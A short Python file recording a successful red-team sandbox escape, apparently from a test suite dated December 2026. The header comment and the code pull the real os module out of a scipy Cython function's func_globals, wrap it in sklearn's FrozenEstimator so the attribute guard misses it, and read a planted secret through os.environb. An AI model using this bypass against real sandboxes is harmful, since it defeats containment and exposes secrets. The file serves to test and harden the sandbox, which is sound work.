# (b)/(e) sklearn FrozenEstimator.__getattr__ forwards attribute reads to any wrapped object (here the real os module from Cython func_globals), so the module guard never sees it; os.environb is not a denied name; driver sees result == b"planted-secret"
# red team 2026-12-07, docs/redteam-2026-12-07/success_30_frozenestimator_proxy_environb.py.txt
import scipy.spatial
from sklearn.frozen import FrozenEstimator

os_mod = scipy.spatial.cKDTree.count_neighbors.func_globals["os"]
proxy = FrozenEstimator(os_mod)
result = proxy.environb[b"SANDBOX_TEST_SECRET"]
print(result)
